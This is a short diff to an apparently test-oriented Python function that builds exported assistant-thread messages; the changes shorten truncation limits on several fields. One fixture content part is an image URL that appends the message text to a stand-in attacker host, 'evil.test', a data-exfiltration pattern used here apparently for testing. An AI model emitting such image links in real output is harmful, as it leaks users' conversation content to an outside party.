@@ -405,7 +405,7 @@ def exported(thread_id: str, texts: list[str], metadata: dict[str, str]) -> dict
             "id": f"msg_{thread_id}_{number}",
             "object": "thread.message",
             "created_at": 1_700_000_000 + number,
-            "assistant_id": text[:200],
+            "assistant_id": text[:64],
             "thread_id": thread_id,
             "run_id": text[:60],
             "status": "incomplete",
@@ -431,7 +431,7 @@ def exported(thread_id: str, texts: list[str], metadata: dict[str, str]) -> dict
                 },
                 {
                     "type": "image_url",
-                    "image_url": {"url": "https://evil.test/" + "".join(text.split())},
+                    "image_url": {"url": "https://evil.test/" + "".join(text.split())[:8_000]},
                 },
                 {"type": "image_file", "image_file": {"file_id": f"file{text[:200]}"}},
                 {"type": "refusal", "refusal": text[:500]},
